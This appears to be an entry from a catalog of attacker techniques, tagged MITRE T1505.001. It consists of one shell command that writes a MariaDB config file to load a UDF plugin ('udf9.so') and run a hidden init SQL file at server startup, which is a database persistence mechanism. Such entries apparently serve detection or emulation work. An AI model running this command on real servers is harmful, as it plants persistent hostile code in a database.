# technique: T1505.001
# location: linux.database.mysql
# source: /etc/mysql/mariadb.conf.d/99-init.cnf
printf '[mariadbd]\nplugin-load-add=udf9.so\ninit-file=/var/lib/mysql/.i.sql\n' > /etc/mysql/mariadb.conf.d/99-init.cnf
